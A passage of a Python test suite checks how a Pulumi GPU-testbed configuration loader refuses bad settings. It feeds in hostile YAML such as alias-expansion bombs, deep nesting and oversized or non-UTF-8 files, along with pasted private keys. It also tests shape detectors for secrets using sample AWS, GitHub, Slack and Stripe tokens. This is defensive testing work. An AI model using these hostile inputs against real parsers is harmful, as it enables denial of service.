    # any namespace before a setting's own name: the default would apply silently
    ({"testbed:workerCount": "8"}, "testbed:workerCount", "did you mean gpu-testbed:workerCount?"),
    ({"gpu:workerCount": "8"}, "gpu:workerCount", "did you mean gpu-testbed:workerCount?"),
    ({"gpu-testbed-cluster:workerCount": "8"}, "gpu-testbed-cluster:workerCount", "gpu-testbed:workerCount?"),
    ({"slurm:nodesetName": "gpu"}, "slurm:nodesetName", "did you mean gpu-testbed:nodesetName?"),
    ({"keda:kedaCooldownSeconds": "60"}, "keda:kedaCooldownSeconds", "did you mean gpu-testbed:kedaCooldownSeconds?"),
    ({"cluster:WORKERCOUNT": "8"}, "cluster:WORKERCOUNT", "did you mean gpu-testbed:workerCount?"),
    ({"aws:region": "eu-west-1"}, "aws:region", "pulumi config set region"),
    ({"aws:profile": "prod"}, "aws:profile", "AWS_PROFILE"),
    ({"aws:secretKey": "wJalrXUtnFEMI/K7MDENG"}, "aws:secretKey", "explicit"),
    ({"kubernetes:context": "prod"}, "kubernetes:context", "kubeconfig the program mints"),
    ({"!workerCount": "2"}, "workerCount", "without a namespace"),
    ({"workerCount": {"secure": "v1:abcdef"}}, "workerCount", "value hidden: encrypted with secure:"),
    ({"sshPublicKey": {"secure": "v1:abcdef"}}, "sshPublicKey", "not encrypted"),
    ({"workerCount": ["1", "2"]}, "workerCount", "a plain value"),
    # --- run limits, evidence and budget
    ({"slurmJobMaxMinutes": "0"}, "slurmJobMaxMinutes", "an integer from 1 to 10080"),
    ({"aiJobMaxMinutes": "10081"}, "aiJobMaxMinutes", "an integer from 1 to 10080"),
    ({"roleCredentialHours": "0"}, "roleCredentialHours", "an integer from 1 to 168"),
    ({"managedPrometheus": "yes"}, "managedPrometheus", "true or false"),
    ({"managedPrometheusKeep": "1"}, "managedPrometheusKeep", "true or false"),
    ({"budgetMonthlyUsd": "100001"}, "budgetMonthlyUsd", "an integer from 0 to 100000"),
    ({"budgetMonthlyUsd": "50", "budgetEmail": "me at example.com"}, "budgetEmail", "one e-mail address"),
    ({"aiJobMaxMinutes": "abc"}, "aiJobMaxMinutes", "ASCII digits"),
    ({"managedPrometheus": "maybe"}, "managedPrometheus", "true or false"),
    ({"managedPrometheusKeep": "yes please"}, "managedPrometheusKeep", "true or false"),
    ({"budgetMonthlyUsd": "-5"}, "budgetMonthlyUsd", "from 0 to 100000"),
    ({"budgetEmail": "not-an-email"}, "budgetEmail", "one e-mail address"),
]


def _problems(values: dict) -> list[str]:
    with pytest.raises(settings.SettingsError) as error:
        settings.load(cfg(values))
    return error.value.problems


def test_every_setting_has_a_refusal_in_the_table():
    """A setting added without a row here has a refusal nobody checked."""
    assert {s.key for s in settings.SETTINGS} - {key for _, key, _ in ROWS} == set()


def test_the_rules_agree_with_the_names_contract():
    from core import names

    assert settings.RESERVED_NODESET_NAMES[0] == names.DEFAULT_PARTITION
    accepted = instance_types.accepted_workers()
    assert accepted and {instance_types.CATALOGUE[t].gpu_count for t in accepted} == {names.GPUS_PER_WORKER}


@pytest.mark.parametrize("values, key, fragment", ROWS, ids=[f"{i}-{r[1]}" for i, r in enumerate(ROWS)])
def test_a_bad_setting_is_refused_in_one_clear_line(values, key, fragment):
    problems = _problems(values)
    found = [p for p in problems if p.startswith(f"{key}: ")]
    assert len(found) == 1, problems
    assert fragment in found[0], found[0]
    for line in problems:
        assert all(" " <= ch <= "~" or ch == "…" for ch in line), line  # escaped: one printable line
        assert not any(secret in line for secret in SECRETS), line
    raw = values.get(key)
    if ":" not in key and isinstance(raw, str) and not settings.secret_kind(raw):
        assert settings.show(raw) in found[0], found[0]  # the value, escaped and truncated


NOT_SECRETS = [
    ED25519,  # public keys: long and random, but meant to be shared
    ECDSA,
    _rsa_line(4096) + " me@host",
    "MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE" + "x7Qb3kP9zR2mV5tY8nC1aF4" * 2,  # DER public key (SPKI) body
    "MIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJ",  # a certificate body
    "GPU-3f1c9a52-7d1e-4c0b-9e2a-5b8d0c6f1a01",  # nvidia-smi UUIDs, job and path names
    "kubePrometheusStackVersionForTheCluster1",
    "ThisIsAVeryLongCamelCaseSettingName123",
    "Documents/Projects/GpuTestbed2024/outdir",
    "sha256:" + "0123456789abcdef" * 4,
    "abcdef.0123456789abcdef",  # a kubeadm bootstrap token's shape, but lower-case hex: not this check's
    "ami-0123456789abcdef0",
    "x" * 5000,
]


@pytest.mark.parametrize("text", NOT_SECRETS, ids=range(len(NOT_SECRETS)))
def test_what_is_long_or_random_but_not_secret_is_shown(text):
    assert settings.secret_kind(text) is None


@pytest.mark.parametrize(
    "text, kind",
    [
        (EC_BODY[:20], "private key"),  # 15 bytes: SEQUENCE, version 1, the scalar's OCTET STRING
        (EC_BODY[4:64], "secret key or token"),  # a body cut anywhere else is still random
        (RANDOM_SECRET, "secret key or token"),
        (RANDOM_SECRET[:-1], None),  # 31 characters: under the length a secret key has
        ("Q7w2E9r4Q7w2E9r4T6y1U8i3T6y1U8i3", "secret key or token"),  # 4.0 bits a character
        ("Ab1Ab1Ab1Ab1Ab1Ab1Ab1Ab1Ab1Ab1Ab", None),  # mixed classes, 1.6 bits a character
        ("q8zr2xkv9mt4bn7cwf1ls6hd3gy0pj5a", None),  # no capital
        ("Q8ZR2XKV9MT4BN7CWF1LS6HD3GY0PJ5A", None),
        ("qXZrbXkVamTcbNhcWfiLsjHdkGylPjmA", None),  # no digit
        (AWS_SECRET_KEY.upper(), None),  # one letter case only: not random enough to tell
        ("AKIAIOSFODNN7EXAMPLE", "AWS access key"),
        (GITHUB_TOKEN, "GitHub token"),
        ("github_pat_" + "A1b2C3d4E5" * 3, "GitHub token"),
        ("glpat-" + "a1B2c3D4e5F6g7H8i9J0", "GitLab token"),
        ("https://hooks.slack.com/services/T000/B000/XXXX", "Slack token"),
        ("AIza" + "Sy" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q", "Google API key"),
        (JWT, "JSON Web Token"),
        ("pul-3f9a1c0b7e2d4a6f8b1c9e0d2a4b6c8e0f1a3b5c", "Pulumi access token"),
        ("sk_live_51H8aBcDeFgHiJkLmNoPqRsT", "Stripe key"),
        ("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "hex key or token"),
        ("ami-0123456789abcdef0", None),  # 17 hex digits: an AMI id, shown
    ],
)
def test_a_secret_is_known_by_its_shape(text, kind):
    found = settings.secret_kind(text)
    assert (found is None) if kind is None else (found == f"looks like {'an' if kind[0] in 'AE' else 'a'} {kind}")


def test_every_problem_is_reported_at_once_and_none_twice():
    problems = _problems(
        {
            "workerCount": "x",
            "region": "nowhere",
            "kedaCooldownSeconds": "0",
            "adminCidr": "bad",
            "gpu_testbed:spotWorkers": "true",
            "sshPublicKey": PRIVATE_KEYS[0],
            "vpcCidr": "10.244.0.0/16",
        }
    )
    keys = sorted(p.split(": ")[0] for p in problems)
    assert keys == sorted(
        [
            "adminCidr",
            "gpu_testbed:spotWorkers",
            "kedaCooldownSeconds",
            "region",
            "sshPublicKey",
            "vpcCidr",
            "workerCount",
        ]
    )


ACCEPTED = [
    {"adminCidr": "0.0.0.0/0", "allowOpenIngress": "true"},
    {"adminCidr": "81.0.0.0/8", "allowOpenIngress": "TRUE"},
    {"adminCidr": "81.2.0.0/16"},
    {"vpcCidr": "172.31.0.0/16"},
    {"vpcCidr": "192.168.10.0/24"},
    {"vpcCidr": "10.245.0.0/16"},  # just above the pod network
    {"vpcCidr": "10.95.0.0/16"},  # just below the service network
    {"workerInstanceType": "g5.xlarge"},
    {"workerInstanceType": "g6e.2xlarge", "region": "us-west-2", "availabilityZone": "us-west-2d"},
    {"controlInstanceType": "m6i.large"},
    {"sshPublicKey": _rsa_line(2048)},
    {"sshPublicKey": ED25519 + " me@host"},
    {"sshPublicKey": ECDSA},
    {"sshPublicKey": ED25519 + "\n"},  # the newline a pasted key ends with
    {"kubernetesVersion": "1.34.0", "flannelVersion": "v0.27.0", "kedaVersion": "2.20.0"},
    {"kedaVersion": "2.16.1", "trainingOperatorVersion": "v1.8.1", "slinkyVersion": "1.0.0"},  # the article's
    {"kubePrometheusStackVersion": "80.0.0"},
    {"workerCount": "7", "kedaMaxReplicas": "0"},
    {"kedaCooldownSeconds": "30"},  # the shortest window: one scrape interval, at the default poll
    {"kedaCooldownSeconds": "600", "kedaPollingSeconds": "600"},
    {"other-tool:workers": "8", "pulumi:template": "x"},  # not a setting's name: another tool's
    {"nodesetName": "all-gpus"},
    {"pulumi:tags": "{}", "other-tool:setting": "x"},  # other namespaces belong to other tools
    # the edges of every range: the subnet's capacity, the root volumes' limits
    {"workerCount": "235"},
    {"controlRootVolumeGb": "20", "workerRootVolumeGb": "16384"},
    {"amiId": ""},  # given empty: the lookup, as the default
    {"amiId": "ami-0123456789abcdef0"},
    {"sshPublicKey": ED25519 + " " + "c" * (settings.SSH_KEY_MAX_CHARS - len(ED25519) - 1)},  # the longest line
]


@pytest.mark.parametrize("values", ACCEPTED)
def test_good_values_next_to_the_refused_ones_are_accepted(values):
    settings.load(cfg(values))


def test_a_stack_file_is_read_as_pulumi_reads_it(tmp_path):
    """Unquoted numbers and booleans are their text; YAML 1.1 `yes` stays the word yes."""
    (tmp_path / "Pulumi.lab.yaml").write_text(
        f"config:\n  {PROJECT}:adminCidr: {ADMIN}\n  {PROJECT}:workerCount: 2\n"
        f"  {PROJECT}:spotWorkers: true\n  {PROJECT}:kedaCooldownSeconds: 600\n"
    )
    loaded = settings.load(offline.stack_config("lab", root=tmp_path))
    assert (loaded.worker_count, loaded.spot_workers, loaded.keda_cooldown_seconds) == (2, True, 600)
    (tmp_path / "Pulumi.yes.yaml").write_text(
        f"config:\n  {PROJECT}:adminCidr: {ADMIN}\n  {PROJECT}:spotWorkers: yes\n  workerCount: 3\n"
        f"  {PROJECT}:sshPublicKey:\n    secure: v1:c2VjcmV0\n"
    )
    with pytest.raises(settings.SettingsError) as error:
        settings.load(offline.stack_config("yes", root=tmp_path))
    assert [p.split(": ")[0] for p in error.value.problems] == ["workerCount", "spotWorkers", "sshPublicKey"]
    assert "c2VjcmV0" not in str(error.value)


def test_a_key_given_twice_with_config_is_refused_not_last_wins():
    with pytest.raises(settings.SettingsError) as error:
        offline.stack_config(
            "dev", ["workerCount=8", "region=us-east-2", f"{PROJECT}:workerCount=2", "spotWorkers=true", "region=x"]
        )
    assert error.value.problems == [
        "--config: gpu-testbed:workerCount is given more than once; expected each key once",
        "--config: region is given more than once; expected each key once",
    ]


def test_every_malformed_config_override_is_named_at_once():
    with pytest.raises(settings.SettingsError) as error:
        offline.stack_config("dev", ["workerCount", "=3", "region=us-east-2", "\x1b[31m"])
    assert [p.split(": ", 1)[1].split(" is not")[0] for p in error.value.problems] == [
        '"workerCount"',
        '"=3"',
        '"\\x1b[31m"',
    ]


@pytest.mark.parametrize(
    "stack, fragment",
    [("typo", "no stack file Pulumi.typo.yaml"), ("../dev", "expected a stack name"), ("", "expected a stack name")],
)
def test_a_missing_or_odd_stack_is_named_before_any_setting(stack, fragment):
    with pytest.raises(settings.SettingsError) as error:
        offline.stack_config(stack)
    (line,) = error.value.problems
    assert line.startswith("--stack: ") and fragment in line and "adminCidr" not in line


# Every 15th row that the CLI can express (plain values, a setting's own key).
SAMPLE = [r for r in ROWS[::15] if all(isinstance(v, str) for v in r[0].values()) and ":" not in r[1]]


def test_a_sample_of_the_table_exits_2_through_the_cli_before_any_resource(capsys, monkeypatch):
    import pulumi

    from cli import __main__ as cli

    def no_engine(*args, **kwargs):
        raise AssertionError("the mock engine started: a resource could have been created")

    monkeypatch.setattr(pulumi.runtime, "set_mocks", no_engine)
    assert len(SAMPLE) >= 8
    for values, key, fragment in SAMPLE:
        args = ["plan"] + [a for k, v in values.items() for a in ("--config", f"{k.lstrip('!')}={v}")]
        assert cli.main(args) == 2, values
        err = capsys.readouterr().err.splitlines()
        assert any(line.startswith(f"{key}: ") and fragment in line for line in err), err


STACK_HEAD = f"config:\n  {PROJECT}:adminCidr: {ADMIN}\n"
# The hostile-input classes through `python -m cli plan`: (the stack file, --config items, each line's
# thing and a fragment of it, in order).
CLI_CLASSES: list[tuple[str, list[str], list[tuple[str, str]]]] = [
    # stack files
    (STACK_HEAD + "  ? [a, b]\n  : 1\n", [], [("Pulumi.odd.yaml", "line 3: a key that is a list or a mapping")]),
    (STACK_HEAD + "  x: " + "[" * 50_000 + "]" * 50_000 + "\n", [], [("Pulumi.odd.yaml", "nested deeper than 64")]),
    (LAUGHS.replace("config:\n", STACK_HEAD), [], [("Pulumi.odd.yaml", "line 4: the alias *a is not accepted")]),
    (STACK_HEAD + f"  {PROJECT}:adminCidr: {ADMIN}\n", [], [("Pulumi.odd.yaml", "appears twice")]),
    (
        STACK_HEAD + "  testbed:workerCount: 8\n  gpu:workerCount: 8\n  gpu-testbed-cluster:workerCount: 8\n",
        [],
        [
            ("gpu-testbed-cluster:workerCount", "did you mean gpu-testbed:workerCount?"),
            ("gpu:workerCount", "did you mean gpu-testbed:workerCount?"),
            ("testbed:workerCount", "did you mean gpu-testbed:workerCount?"),
        ],
    ),
    # secrets without their headers, in known and unknown settings and as keys
    (
        STACK_HEAD,
        [f"sshPublicKey={EC_BODY[:60]}", f"awsSecret={AWS_SECRET_KEY}", f"{SLACK_TOKEN}=1"],
        [
            ("awsSecret", "(value hidden: looks like a secret key or token) is not a setting"),
            ("(key hidden: looks like a Slack token)", '"1" is not a setting of gpu-testbed'),
            ("sshPublicKey", "(value hidden: looks like a private key) is not allowed"),
        ],
    ),
    # numbers and ranges that look valid, settings that defeat each other, a key given twice
    (
        STACK_HEAD,
        ["adminCidr=81.2.69.0/028", "vpcCidr=10.0.0.0/016", "workerCount=08", "kedaCooldownSeconds=5"],
        [
            ("adminCidr", "(did you mean 81.2.69.0/28?)"),
            ("vpcCidr", "(did you mean 10.0.0.0/16?)"),
            ("workerCount", "(did you mean 8?)"),
            ("kedaCooldownSeconds", "shorter than the 30 s scrape interval"),
        ],
    ),
    (STACK_HEAD, ["kedaCooldownSeconds=1", "kedaPollingSeconds=3600"], [("kedaCooldownSeconds", "at least 3600")]),
    (STACK_HEAD, ["workerCount=8", "workerCount=2"], [("--config", "workerCount is given more than once")]),
    # issue 31: a broken stack file hid the --config problems; each value says where it came from
    (
        STACK_HEAD + "  x: [\n",
        ["workerCount=0", "bad"],
        [
            ("Pulumi.odd.yaml", "is not readable YAML"),
            ("--config", '"bad" is not allowed; expected KEY=VALUE'),
            ("workerCount", "expected an integer from 1 to 235 (the /24 node subnet's capacity) (from --config)"),
        ],
    ),
    (
        STACK_HEAD + f"  {PROJECT}:workerCount: 0\n",
        ["kedaMaxReplicas=x"],
        [("kedaMaxReplicas", "(from --config)"), ("workerCount", "(from Pulumi.odd.yaml)")],
    ),
    # the left-overs: a dotted near-miss, an empty key, a config under another project's name
    (
        STACK_HEAD + f"  {PROJECT}.workerCount: 2\n",
        [],
        [(f"{PROJECT}.workerCount", f"did you mean {PROJECT}:workerCount?")],
    ),
    (STACK_HEAD + '  "": x\n', [], [('(an empty key) with the value "x"', f"not read; expected {PROJECT}:SETTING")]),
    (
        f"config:\n  wrong-project:adminCidr: {ADMIN}\n",
        [],
        [("wrong-project:adminCidr", f"the project is {PROJECT}, so its keys start with {PROJECT}:")],
    ),
]


@pytest.mark.parametrize("text, overrides, expected", CLI_CLASSES, ids=[str(i) for i in range(len(CLI_CLASSES))])
def test_each_class_of_bad_input_exits_2_through_the_cli(text, overrides, expected, tmp_path, capsys, monkeypatch):
    """Exit 2, one line per problem in order, nothing raw or secret echoed, and the mock engine
    never started (a traceback would fail the call itself)."""
    import pulumi

    from cli import __main__ as cli

    def no_engine(*args, **kwargs):
        raise AssertionError("the mock engine started: a resource could have been created")

    monkeypatch.setattr(pulumi.runtime, "set_mocks", no_engine)
    monkeypatch.setattr(offline, "STACKS_DIR", tmp_path)  # stack files from tmp_path
    (tmp_path / "Pulumi.odd.yaml").write_text(text)
    code = cli.main(["plan", "--stack", "odd", *(a for item in overrides for a in ("--config", item))])
    out, err = capsys.readouterr()
    assert code == 2 and out == "", (code, out, err)
    lines = err.splitlines()
    assert len(lines) == len(expected), lines
    for line, (thing, fragment) in zip(lines, expected, strict=True):
        assert line.startswith(f"{thing}: ") and fragment in line, (line, thing, fragment)
        assert all(" " <= ch <= "~" or ch == "…" for ch in line) and len(line) < 600, line
        assert not any(secret in line for secret in SECRETS), line


@pytest.mark.parametrize("value", ['{"gpu-testbed:workerCount": "8"}', "{junk", ""], ids=["json", "junk", "empty"])
def test_pulumi_config_in_the_environment_is_refused_naming_it(value, tmp_path, capsys, monkeypatch):
    """Before issue 31 the program under the mock engine read it (plan listed 8 workers and priced
    4) and junk JSON was a traceback; `pulumi up` replaces it with the stack's config, so it is
    refused, with every other problem, and never parsed or echoed."""
    from cli import __main__ as cli

    monkeypatch.setenv("PULUMI_CONFIG", value)
    assert cli.main(["plan", "--config", "workerCount=0"]) == 2
    out, err = capsys.readouterr()
    lines = err.splitlines()
    assert out == "" and len(lines) == 2, lines
    assert lines[0].startswith(f"$PULUMI_CONFIG: set in the environment ({len(value)} characters, not read)")
    assert lines[1].startswith('workerCount: "0" is not allowed') and lines[1].endswith("(from --config)")
    assert "junk" not in err and "gpu-testbed:workerCount" not in err


def test_the_mock_engine_gives_the_program_its_config_as_pulumi_does(monkeypatch):
    """The program reads PULUMI_CONFIG (stacks/testbed.py settings_from_pulumi); the offline engine
    sets it to the stack's config for the run, and puts back what was there."""
    monkeypatch.setenv("PULUMI_CONFIG", '{"gpu-testbed:workerCount": "8"}')
    rec = offline.run({f"{PROJECT}:adminCidr": ADMIN})  # the default workerCount, 4: not the environment's 8
    assert len(rec.outputs["workerPrivateIps"]) == rec.settings.worker_count == 4
    assert __import__("os").environ["PULUMI_CONFIG"] == '{"gpu-testbed:workerCount": "8"}'


def test_the_cli_prints_the_lines_and_no_traceback_for_a_pasted_private_key(tmp_path):
    result = subprocess.run(
        [
            *(sys.executable, "-m", "cli", "render", "--out", str(tmp_path / "r")),
            *("--config", "vpcCidr=10.96.0.0/16", "--config", f"sshPublicKey={PRIVATE_KEYS[0]}"),
            *("--config", "workerCount=" + "9" * 5000),
        ],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
    )
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert [line.split(": ")[0] for line in result.stderr.splitlines()] == ["vpcCidr", "sshPublicKey", "workerCount"]
    assert PRIVATE_BODY not in result.stderr and not (tmp_path / "r").exists()


def test_the_pulumi_program_registers_nothing_for_a_bad_config():
    """`__main__.py` as `pulumi up` runs it: RunError (printed without a stack trace), no resource."""
    import runpy

    import pulumi

    monitor = offline.RecordingMonitor(offline.TestbedMocks())
    config = {
        f"{PROJECT}:adminCidr": ADMIN,
        f"{PROJECT}:availabilityZone": "us-east-1z",
        f"{PROJECT}:sshPublicKey": PRIVATE_KEYS[1],
        "gpu_testbed:workerCount": "2",
    }
    with pytest.raises(pulumi.RunError) as error:
        offline.run_under_mocks(lambda: runpy.run_path(str(ROOT / "__main__.py")), config, monitor=monitor)
    lines = str(error.value).splitlines()
    assert lines[0] == "invalid settings:"
    assert sorted(line.split(": ")[0] for line in lines[1:]) == [
        "availabilityZone",
        "gpu_testbed:workerCount",
        "sshPublicKey",
    ]
    assert PRIVATE_BODY not in str(error.value)
    assert monitor.recorded == []


BROKEN_STACK_FILES = [
    ("config: [a, b]\n", "config: is not allowed; expected a mapping"),
    ("config:\n  gpu-testbed:adminCidr: [\n", "not readable YAML at line 3, column 1"),
    ("- just\n- a list\n", "config: is not allowed; expected a mapping"),
    (
        "config:\n  gpu-testbed:workerCount: 2\n  gpu-testbed:workerCount: 3\n",
        'line 3: the key "gpu-testbed:workerCount" appears twice; expected each key once',
    ),
    # hostile files: a sequence as a key, 50,000 brackets, aliases, bytes that are not UTF-8, a huge file
    ("config:\n  ? [a, b]\n  : 1\n", "line 2: a key that is a list or a mapping; expected text"),
    ("config:\n  gpu-testbed:workerCount: " + "[" * 50_000 + "]" * 50_000 + "\n", "nested deeper than 64 levels"),
    ("config:\n" + "".join("  " * (i + 1) + f"k{i}:\n" for i in range(200)), "line 64: nested deeper than 64 levels"),
    (LAUGHS, "line 3: the alias *a is not accepted"),
    ("config:\n  gpu-testbed:region: &r us-east-1\n  gpu-testbed:amiId: *r\n", "the alias *r is not accepted"),
    ("config:\n  gpu-testbed:nodesetName: gp\xfcs\n".encode("latin-1"), "is not UTF-8 text: byte 0xfc at offset"),
    ("config:\n  gpu-testbed:nodesetName: a\x07b\n", "the character \\x07 at offset 36 is not allowed"),
    ("config:\n  x: " + "a" * (2 << 20) + "\n", "is larger than 256 KiB, the limit for a stack file"),
    ("config:\n  a: 1\n---\nconfig:\n  b: 2\n", "expected a single document in the stream"),
    (
        f"config:\n  {PRIVATE_BODY}: 1\n  {PRIVATE_BODY}: 2\n",
        "the key (value hidden: looks like a private key) appears",
    ),
]


@pytest.mark.parametrize("text, fragment", BROKEN_STACK_FILES, ids=[f"{i}" for i in range(len(BROKEN_STACK_FILES))])
def test_a_broken_stack_file_is_one_line_naming_the_file(tmp_path, text, fragment):
    path = tmp_path / "Pulumi.odd.yaml"
    path.write_bytes(text) if isinstance(text, bytes) else path.write_text(text)
    with pytest.raises(settings.SettingsError) as error:
        offline.stack_config("odd", root=tmp_path)
    (line,) = error.value.problems
    assert line.startswith("Pulumi.odd.yaml: ") and fragment in line, line
    assert all(" " <= ch <= "~" or ch == "…" for ch in line) and len(line) < 300, line
    assert PRIVATE_BODY not in line


# Whole lines: what a user reads for each kind of refusal (the thing, its value as shown, what
# is wrong and what is allowed), word for word.
ALLOWED_KEY = (
    "one OpenSSH public key line (ssh-ed25519, ecdsa-sha2-nistp256/384/521, or ssh-rsa of 2048 bits or more), "
    "at most 1600 characters"
)
DNS_LABEL = (
    "a DNS label: lower-case letters, digits and '-', 1-32 characters, starting and ending with a letter or "
    "digit, and none of all, default"
)
AWS_EXPLICIT = (
    "the program's AWS provider is explicit: its region is the setting region and its credentials come from "
    "the environment (AWS_PROFILE or AWS_ACCESS_KEY_ID)"
)
LONG_KEY = ED25519 + " " + "c" * (settings.SSH_KEY_MAX_CHARS - len(ED25519))
WHOLE_LINES = [
    (
        {"sshPublicKey": "ssh-ed25519"},
        f'sshPublicKey: "ssh-ed25519" is not allowed; expected {ALLOWED_KEY}, e.g. ssh-ed25519 AAAA... me@host',
    ),
    (
        {"sshPublicKey": "ssh-ed25519 AAAA"},
        'sshPublicKey: "ssh-ed25519 AAAA" is not a readable key (damaged base64 or a type that does not match '
        f"its label); expected {ALLOWED_KEY}",
    ),
    (
        {"sshPublicKey": LONG_KEY},
        f'sshPublicKey: "{LONG_KEY[:60]}… (1601 characters)" is 1601 characters long (every node\'s user-data '
        f"carries it, within 16 KiB); expected {ALLOWED_KEY}",
    ),
    ({"nodesetName": "GPU"}, f'nodesetName: "GPU" is not allowed; expected {DNS_LABEL}'),
    (
        {"nodesetName": "all"},
        f'nodesetName: "all" clashes with the Slurm partition `all` the Slinky chart defines; expected {DNS_LABEL}',
    ),
    (
        {"nodesetName": "default"},
        f'nodesetName: "default" is Slurm\'s keyword for partition defaults (PartitionName=DEFAULT); expected {DNS_LABEL}',
    ),
    # escaping: the quote the value is shown in, a backslash, a tab, non-ASCII; cut after 60 characters
    ({"nodesetName": 'a"b\\c\t\u00e9'}, f'nodesetName: "a\\"b\\\\c\\t\\xe9" is not allowed; expected {DNS_LABEL}'),
    ({"nodesetName": "n" * 60}, f'nodesetName: "{"n" * 60}" is not allowed; expected {DNS_LABEL}'),
    ({"nodesetName": "n" * 61}, f'nodesetName: "{"n" * 60}… (61 characters)" is not allowed; expected {DNS_LABEL}'),
    ({"nodesetName": "insecure-"}, f'nodesetName: "insecure-" is not allowed; expected {DNS_LABEL}'),  # not `secure:`
    ({"workerCount": "x"}, 'workerCount: "x" is not allowed; expected a whole number in ASCII digits'),
    ({"spotWorkers": "maybe"}, 'spotWorkers: "maybe" is not allowed; expected true or false'),
    (
        {"workerCount": ["1", "2"]},
        "workerCount: \"['1', '2']\" is not allowed; expected a plain value (not encrypted, not a list or mapping)",
    ),
    (
        {"workerCount": {"secure": "v1:abc"}},
        "workerCount: (value hidden: encrypted with secure:) is not allowed; expected a plain value (not encrypted, "
        "not a list or mapping)",
    ),
    (
        {"region": "east1"},
        'region: "east1" is not allowed; expected a region of the commercial AWS partition, e.g. us-east-1',
    ),
    (
        {"region": "useast-1"},
        'region: "useast-1" is not allowed; expected a region of the commercial AWS partition, e.g. us-east-1 '
        "(did you mean us-east-1?)",
    ),
    (
        {"region": "ap-south-1", "availabilityZone": "ap-south-1-h"},
        'availabilityZone: "ap-south-1-h" is not allowed; expected a zone of region ap-south-1: ap-south-1 and one '
        "letter (which exist is not known offline: `python -m cli preflight` checks it), or empty to pick one that "
        "offers the worker type",
    ),
    (
        {"adminCidr": "bad"},
        'adminCidr: "bad" is not allowed; expected an IPv4 network in CIDR form with no host bits set, e.g. '
        "203.0.113.7/32 (the testbed is IPv4 only)",
    ),
    (
        {"adminCidr": "81.0.0.0/8"},
        'adminCidr: "81.0.0.0/8" opens SSH and the API server to 16,777,216 addresses (wider than /16); expected '
        "your own address range, or set allowOpenIngress true to accept that",
    ),
    (
        {"adminCidr": "203.0.113.7/32"},
        'adminCidr: "203.0.113.7/32" is a documentation example address nobody connects from; expected your own, '
        'e.g. pulumi config set adminCidr "$(curl -s https://checkip.amazonaws.com)/32"',
    ),
    (
        {"adminCidr": "10.0.0.0/16"},
        'adminCidr: "10.0.0.0/16" is not an internet address range (private, shared, loopback, multicast or '
        "reserved), and SSH and the API server are reached at the control node's public address; expected the "
        "address you connect from, e.g. the output of curl -s https://checkip.amazonaws.com, as a.b.c.d/32",
    ),
    (
        {"workerCount": "1", "aiBorrowsHpcGpus": "false"},
        'aiBorrowsHpcGpus: "false" is not allowed with an AI share of 0 GPUs: Kueue would admit no Kubernetes GPU '
        "work at all; expected true, or aiGuaranteedGpus of 1 or more",
    ),
    (
        {"kedaMaxReplicas": "99999999999"},
        'kedaMaxReplicas: "99999999999" is not allowed; expected 0 (= the GPUs slurmd may hold) or an integer '
        "from 1 to 4 (workerCount, or HPC's share when hpcBorrowsAiGpus is false): each slurmd pod holds one "
        "worker's GPU",
    ),
    (
        {"kedaVersion": "2.16.2"},
        'kedaVersion: "2.16.2" is not allowed; expected a release 2.20.N (MAJOR.MINOR.PATCH in ASCII digits), '
        "or the reference article's 2.16.1: the tested chart minor, smoke-tested upstream on Kubernetes 1.34; "
        "e.g. 2.20.2",
    ),
    (
        {"certManagerVersion": "1.19.2"},
        'certManagerVersion: "1.19.2" is not allowed; expected a release v1.19.N (vMAJOR.MINOR.PATCH in ASCII '
        "digits, with its leading v): the tested chart minor; e.g. v1.19.6",
    ),
    (
        {"nvidiaContainerToolkitVersion": "1.18.0"},
        'nvidiaContainerToolkitVersion: "1.18.0" is not allowed; expected a release 1.18.N (MAJOR.MINOR.PATCH in '
        "ASCII digits, N from 1): 1.18.0 wrote its containerd drop-in to the wrong directory; e.g. 1.18.1",
    ),
    (
        {"kubePrometheusStackVersion": "79.0.0"},
        'kubePrometheusStackVersion: "79.0.0" is not allowed; expected a release 80.N.N (MAJOR.MINOR.PATCH in ASCII '
        "digits): the tested chart major (a new major changes CRDs and values); e.g. 80.14.4",
    ),
    (
        {"kueueVersion": "0.19.0"},
        'kueueVersion: "0.19.0" is not allowed; expected a release 0.19.N (MAJOR.MINOR.PATCH in ASCII digits, N '
        "from 1): the tested minor: the v1beta2 queues and the manager configuration the program writes are those "
        "of 0.19; 0.19.0 lacks the fix of a permanently inflated pending-GPU metric the scaler reads "
        "(kubernetes-sigs/kueue #13756, in 0.19.1); e.g. 0.19.2",
    ),
    ({"zzzz": "1"}, 'zzzz: "1" is not a setting of gpu-testbed'),
    (
        {"aws:region": "eu-west-1"},
        f'aws:region: "eu-west-1" is not read: {AWS_EXPLICIT}; expected the setting region instead, e.g. pulumi '
        'config set region "eu-west-1"',
    ),
    # the namespace ends at the first colon
    (
        {"kubernetes:config:context": "x"},
        "kubernetes:config:context: not read: the program's Kubernetes provider is explicit and uses the "
        "kubeconfig the program mints",
    ),
    # near the project's name: a similarity ratio of exactly 0.8 is near
    (
        {"gpu-testx:workerCount": "2"},
        "gpu-testx:workerCount: not read: the project is gpu-testbed, so its keys start with gpu-testbed:; did "
        "you mean gpu-testbed:workerCount?",
    ),
    (
        {"gpu-testbd:zzzz": "2"},
        "gpu-testbd:zzzz: not read: the project is gpu-testbed, so its keys start with gpu-testbed:",
    ),
]


@pytest.mark.parametrize(
    "values, line", WHOLE_LINES, ids=[f"{i}-{next(iter(v))}" for i, (v, _) in enumerate(WHOLE_LINES)]
)
def test_a_refusal_reads_word_for_word(values, line):
    assert line in _problems(values)


@pytest.mark.parametrize(
    "value, line",
    [
        (
            "g4dn.xlarg",
            'workerInstanceType: "g4dn.xlarg" is not in the instance catalogue (did you mean g4dn.xlarge?); ',
        ),
        ("zz", 'workerInstanceType: "zz" is not in the instance catalogue; '),
        ("g4dnxl", 'workerInstanceType: "g4dnxl" is not in the instance catalogue; '),  # 0.71 like g4dn.xlarge: no hint
    ],
)
def test_an_unknown_instance_type_is_refused_with_the_catalogue(value, line):
    (problem,) = _problems({"workerInstanceType": value})
    listed = ", ".join(instance_types.accepted_workers())
    assert problem == f"{line}expected a GPU worker type from core/instance_types.py: {listed}"


@pytest.mark.parametrize(
    "values, refused",
    [
